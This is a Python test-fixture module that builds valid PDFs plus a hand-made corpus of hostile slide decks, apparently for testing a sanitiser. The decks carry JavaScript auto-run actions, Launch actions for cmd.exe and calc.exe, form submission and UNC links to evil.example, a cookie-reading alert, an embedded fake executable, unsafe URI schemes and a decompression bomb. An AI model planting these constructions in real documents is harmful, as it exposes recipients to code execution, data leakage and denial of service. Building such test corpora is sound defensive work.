"""Slide decks made in the tests: good ones with pypdf, bad ones by hand."""

from __future__ import annotations

import io
import zipfile
import zlib

from pypdf import PdfWriter


def pdf(pages: int = 3) -> bytes:
    """A valid PDF with that many blank pages (0 is valid PDF syntax too)."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=960, height=540)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=960, height=540)
    writer.encrypt(user_password="secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def zip_payload() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("index.html", "<html><script>alert(1)</script></html>")
    return out.getvalue()


def raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF file from object bodies (1 0 obj is the catalog), with a true xref."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def flate_bomb_pdf(inflated_mb: int = 300) -> bytes:
    """One page whose content stream inflates to ``inflated_mb`` MB of spaces."""
    packer = zlib.compressobj(9)
    chunk = b" " * (1024 * 1024)
    stream = b"".join(packer.compress(chunk) for _ in range(inflated_mb))
    stream += packer.flush()
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 960 540] /Contents 4 0 R >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream)
            + stream
            + b"\nendstream",
        ]
    )


def javascript_pdf() -> bytes:
    """A 1-page PDF that runs JavaScript when opened."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 960 540] >>",
            b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>",
        ]
    )


# The adversarial corpus: one slide of visible text, plus one way (or several)
# of smuggling active content into it. Object 1 is the catalog, 2 the page tree,
# 3 the page, 4 its content stream, 5 its font; a case's own objects start at 6.
SLIDE_TEXT = "Capacity building in three slides"
JS = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"
FONT = (
    b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
)
DRAW_TEXT = b"BT /F1 24 Tf 72 400 Td (%s) Tj ET" % SLIDE_TEXT.encode()


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """An uncompressed stream object body."""
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def slide_objects(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    resources: bytes = b"",
    draw: bytes = b"",
    extra: tuple[bytes, ...] = (),
) -> list[bytes]:
    """The objects of a one-slide deck with the given additions."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 960 540] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> %s >> %s >>" % (resources, page),
        stream(DRAW_TEXT + b"\n" + draw),
        FONT,
        *extra,
    ]


def slide(**additions) -> bytes:
    return raw_pdf(slide_objects(**additions))


def link(action: bytes, rect: bytes = b"[72 72 300 120]") -> bytes:
    """A link annotation (direct dictionary) that runs ``action`` when clicked."""
    return b"<< /Type /Annot /Subtype /Link /Rect %s /A %s >>" % (rect, action)


def with_object_stream(objects: list[bytes], compressed: set[int]) -> bytes:
    """A PDF 1.5 file whose ``compressed`` objects live in an object stream,
    indexed by a cross-reference stream (no classic xref table)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    stream_number = len(objects) + 1
    xref_number = len(objects) + 2
    entries: dict[int, tuple[int, int, int]] = {0: (0, 0, 65535)}
    header, body = [], b""
    for index, number in enumerate(sorted(compressed)):
        header.append(b"%d %d" % (number, len(body)))
        body += objects[number - 1] + b"\n"
        entries[number] = (2, stream_number, index)
    for number, content in enumerate(objects, start=1):
        if number in compressed:
            continue
        entries[number] = (1, len(out), 0)
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    first = b" ".join(header) + b"\n"
    entries[stream_number] = (1, len(out), 0)
    out += b"%d 0 obj\n" % stream_number + stream(
        first + body, b"/Type /ObjStm /N %d /First %d" % (len(header), len(first))
    )
    out += b"\nendobj\n"
    entries[xref_number] = (1, len(out), 0)
    table = b"".join(
        bytes([kind]) + field.to_bytes(4, "big") + extra.to_bytes(2, "big")
        for kind, field, extra in (entries[n] for n in range(xref_number + 1))
    )
    xref = len(out)
    out += b"%d 0 obj\n" % xref_number + stream(
        table,
        b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (xref_number + 1),
    )
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def with_incremental_update(base: bytes, changed: dict[int, bytes]) -> bytes:
    """``base`` with an appended update that replaces or adds objects."""
    previous = int(base.rsplit(b"startxref", 1)[1].split()[0])
    size = int(base.rsplit(b"/Size", 1)[1].split()[0])
    out = bytearray(base)
    offsets = {}
    for number, content in sorted(changed.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, offset in sorted(offsets.items()):
        out += b"%d 1\n%010d 00000 n \n" % (number, offset)
    new_size = max(size, max(changed) + 1)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        new_size,
        previous,
        xref,
    )
    return bytes(out)


def _filespec(name: bytes, embedded: bytes) -> bytes:
    return b"<< /Type /Filespec /F (%s) /UF (%s) /EF << /F %s >> >>" % (
        name,
        name,
        embedded,
    )


EMBEDDED_EXE = stream(
    b"MZ\x90\x00 payload", b"/Type /EmbeddedFile /Subtype /application#2Foctet-stream"
)


def hostile_decks() -> dict[str, bytes]:
    """Each construction that once carried active content into a stored deck."""
    return {
        "JavaScript in OpenAction": slide(catalog=b"/OpenAction 6 0 R", extra=(JS,)),
        "JavaScript from a stream in OpenAction": slide(
            catalog=b"/OpenAction << /S /JavaScript /JS 6 0 R >>",
            extra=(stream(b"app.launchURL('https://evil.example/')"),),
        ),
        "JavaScript in document AA": slide(
            catalog=b"/AA << /WC 6 0 R /WS 6 0 R /DS 6 0 R /WP 6 0 R /DP 6 0 R >>",
            extra=(JS,),
        ),
        "JavaScript in page AA": slide(
            page=b"/AA << /O 6 0 R /C 6 0 R >>", extra=(JS,)
        ),
        "JavaScript in outline items": slide(
            catalog=b"/Outlines 6 0 R /PageMode /UseOutlines",
            extra=(
                b"<< /Type /Outlines /First 7 0 R /Last 8 0 R /Count 2 >>",
                b"<< /Title (Intro) /Parent 6 0 R /Next 8 0 R /A %s >>" % JS,
                b"<< /Title (More) /Parent 6 0 R /Prev 7 0 R /Dest [3 0 R /Fit]"
                b" /A << /S /GoTo /D [3 0 R /Fit] /Next 9 0 R >> >>",
                JS,
            ),
        ),
        "JavaScript chained after another action (/Next)": slide(
            catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [6 0 R 7 0 R] >>",
            page=b"/Annots [%s]"
            % link(b"<< /S /URI /URI (https://example.org/) /Next 6 0 R >>"),
            extra=(JS, b"<< /S /Launch /F (calc.exe) /Next 6 0 R >>"),
        ),
        "rendition actions": slide(
            catalog=b"/OpenAction 6 0 R",
            page=b"/Annots [7 0 R %s]" % link(b"6 0 R"),
            extra=(
                b"<< /Type /Action /S /Rendition /OP 0 /AN 7 0 R"
                b" /JS (app.alert\\(1\\)) /R << /Type /Rendition /S /MR"
                b" /C << /Type /MediaClip /S /MCD /CT (application/x-shockwave-flash)"
                b" /D << /Type /Filespec /F (movie.swf) >> >> >> >>",
                b"<< /Type /Annot /Subtype /Screen /Rect [0 0 100 100] /P 3 0 R"
                b" /A 6 0 R /AA << /PO 6 0 R /PV 6 0 R >> >>",
            ),
        ),
        "launch actions": slide(
            catalog=b"/OpenAction 6 0 R",
            page=b"/Annots [%s]" % link(b"6 0 R"),
            extra=(
                b"<< /Type /Action /S /Launch /F (cmd.exe) /NewWindow true"
                b" /Win << /F (cmd.exe) /P (/c calc) /O (open) >> >>",
            ),
        ),
        "GoToR and GoToE actions": slide(
            page=b"/Annots [%s %s]"
            % (
                link(
                    b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf)"
                    b" /D [0 /Fit] >>"
                ),
                link(
                    b"<< /S /GoToE /T << /R /C /N (payload.pdf) >> /D [0 /Fit]"
                    b" /NewWindow true >>",
                    rect=b"[72 140 300 190]",
                ),
            ),
        ),
        "form, import, reset and other actions": slide(
            page=b"/Annots [%s]"
            % b" ".join(
                link(action, rect=b"[%d 72 %d 120]" % (10 * i, 10 * i + 8))
                for i, action in enumerate(
                    [
                        b"<< /S /SubmitForm /Flags 4"
                        b" /F << /FS /URL /F (https://evil.example/) >> >>",
                        b"<< /S /ImportData /F (data.fdf) >>",
                        b"<< /S /ResetForm >>",
                        b"<< /S /Named /N /Print >>",
                        b"<< /S /Hide /T (x) >>",
                        b"<< /S /SetOCGState /State [/OFF] >>",
                        b"<< /S /Sound /Sound 6 0 R >>",
                        b"<< /S /Movie /T (m) >>",
                        b"<< /S /Thread /D 0 >>",
                        b"<< /S /Trans /Trans << /S /Dissolve >> >>",
                        b"<< /S /GoTo3DView /TA 3 0 R /V 0 >>",
                        b"<< /S /RichMediaExecute /TA 3 0 R >>",
                    ],
                    start=1,
                )
            ),
            extra=(stream(b"\x00" * 16, b"/Type /Sound /R 8000"),),
        ),
        "file-attachment annotation": slide(
            page=b"/Annots [6 0 R]",
            extra=(
                b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20]"
                b" /Name /PushPin /FS %s /Contents (open me) >>"
                % _filespec(b"invoice.exe", b"7 0 R"),
                EMBEDDED_EXE,
            ),
        ),
        "embedded files and JavaScript name trees": slide(
            catalog=b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >>"
            b" /JavaScript << /Names [(init) 8 0 R] >> >> /AF [6 0 R]",
            extra=(_filespec(b"invoice.exe", b"7 0 R"), EMBEDDED_EXE, JS),
        ),
        "AcroForm with JavaScript": slide(
            catalog=b"/AcroForm << /Fields [6 0 R] /NeedAppearances true"
            b" /CO [6 0 R] >>",
            page=b"/Annots [6 0 R]",
            extra=(
                b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /P 3 0 R"
                b" /Rect [72 200 300 230] /A 7 0 R"
                b" /AA << /K 7 0 R /F 7 0 R /V 7 0 R /C 7 0 R /Fo 7 0 R >> >>",
                JS,
            ),
        ),
        "XFA form": slide(
            catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true",
            extra=(
                stream(
                    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>'
                    b'<script contentType="application/x-javascript">'
                    b"app.alert(1)</script></template></xdp:xdp>"
                ),
            ),
        ),
        "URI actions with unsafe schemes": slide(
            page=b"/Annots [%s]"
            % b" ".join(
                link(b"<< /S /URI /URI (%s) >>" % uri)
                for uri in [
                    b"javascript:app.alert(1)",
                    b"JavaScript:alert(1)",
                    b" javascript:alert(1)",
                    b"data:text/html,<script>alert(1)</script>",
                    b"file:///etc/passwd",
                    b"vbscript:msgbox(1)",
                    b"\\\\\\\\evil.example\\\\share",
                    b"https:evil",
                    b"https://example.org/\x00javascript:alert(1)",
                ]
            ),
        ),
        "JavaScript hidden in a form XObject's resources": slide(
            resources=b"/XObject << /Fm1 6 0 R >> /ExtGState << /GS1 9 0 R >>",
            draw=b"q /GS1 gs /Fm1 Do Q",
            extra=(
                stream(
                    b"q /Fm2 Do Q BT /F2 12 Tf 72 300 Td (Form text) Tj ET",
                    b"/Type /XObject /Subtype /Form /BBox [0 0 960 540]"
                    b" /Resources << /Font << /F2 5 0 R /F3 7 0 R >>"
                    b" /XObject << /Fm2 8 0 R >> /Properties << /P1 7 0 R >> >>"
                    b" /AA << /O 7 0 R >> /A 7 0 R /OC << /Type /OCG /Name (x) >>",
                ),
                JS,
                stream(
                    b"",
                    b"/Type /XObject /Subtype /Form /BBox [0 0 10 10] /Resources"
                    b" << /XObject << /Fm3 7 0 R /Fm4 10 0 R >> >> /Next 7 0 R"
                    b" /Ref << /F << /Type /Filespec /F (remote.pdf) >> /Page 0 >>"
                    b" /Metadata 11 0 R /AF [<< /Type /Filespec /F (a.exe) >>]",
                ),
                b"<< /Type /ExtGState /CA 1 /SMask << /Type /Mask /S /JavaScript"
                b" /JS (app.alert\\(2\\)) /G 6 0 R >> >>",
                stream(b"", b"/Type /XObject /Subtype /PS"),
                stream(b"<x:xmpmeta/>", b"/Type /Metadata /Subtype /XML"),
            ),
        ),
        "multimedia and other annotations": slide(
            page=b"/Annots [6 0 R 7 0 R 8 0 R 9 0 R]",
            extra=(
                b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 50 50]"
                b" /RichMediaContent << /Assets << /Names [(a.swf) %s] >> >>"
                b" /RichMediaSettings << /Activation << /Condition /PO >> >> >>"
                % _filespec(b"a.swf", b"10 0 R"),
                b"<< /Type /Annot /Subtype /3D /Rect [0 0 50 50] /3DD 10 0 R"
                b" /3DA << /A /PO >> >>",
                b"<< /Type /Annot /Subtype /Sound /Rect [0 0 5 5] /Sound 10 0 R >>",
                b"<< /Type /Annot /Subtype /Movie /Rect [0 0 5 5]"
                b" /Movie << /F (m.mov) >> /A << /S /JavaScript /JS (x) >> >>",
                stream(b"\x00" * 8, b"/Type /EmbeddedFile"),
            ),
        ),
        "document and page extras": slide(
            catalog=b"/Metadata 6 0 R /URI << /Base (javascript:) >>"
            b" /Collection << /View /D >> /Perms << /DocMDP 7 0 R >>"
            b" /OCProperties << /OCGs [] /D << /AS [<< /Event /View >>] >> >>"
            b" /Threads [] /PieceInfo << /X << /Private 7 0 R >> >>"
            b" /Requirements [<< /Type /Requirement /S /EnableJavaScripts >>]",
            page=b"/Thumb 6 0 R /PieceInfo << /X << /Private 7 0 R >> >>"
            b" /Trans << /S /Dissolve >> /PresSteps 7 0 R /Metadata 6 0 R"
            b" /AF [<< /Type /Filespec /F (x.exe) >>]",
            extra=(stream(b"<x:xmpmeta/>", b"/Type /Metadata /Subtype /XML"), JS),
        ),
        "JavaScript in an object stream": with_object_stream(
            slide_objects(
                catalog=b"/OpenAction 6 0 R /Names 7 0 R",
                extra=(JS, b"<< /JavaScript << /Names [(a) 6 0 R] >> >>"),
            ),
            compressed={1, 6, 7},
        ),
        "OpenAction added by an incremental update": with_incremental_update(
            slide(),
            {
                1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
                3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 960 540]"
                b" /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>"
                b" /AA << /O 6 0 R >> /Annots [%s] >>"
                % link(b"<< /S /Launch /F (calc.exe) >>"),
                6: JS,
            },
        ),
        "actions in inherited page attributes": raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 960 540]"
                b" /Resources << /Font << /F1 5 0 R >> >> /AA << /O 6 0 R >>"
                b" /Rotate 90 >>",
                b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
                stream(DRAW_TEXT),
                FONT,
                JS,
            ]
        ),
    }


def web_link_deck() -> bytes:
    """A slide with one plain link to a web address (kept) and a hostile one."""
    return slide(
        page=b"/Annots [%s %s]"
        % (
            link(b"<< /S /URI /URI (https://example.org/programme?id=7) >>"),
            link(
                b"<< /S /URI /URI (http://example.org/) /Next 6 0 R >>"
                b" /AA << /E 6 0 R >>",
                rect=b"[72 140 300 190]",
            ),
        ),
        extra=(JS,),
    )
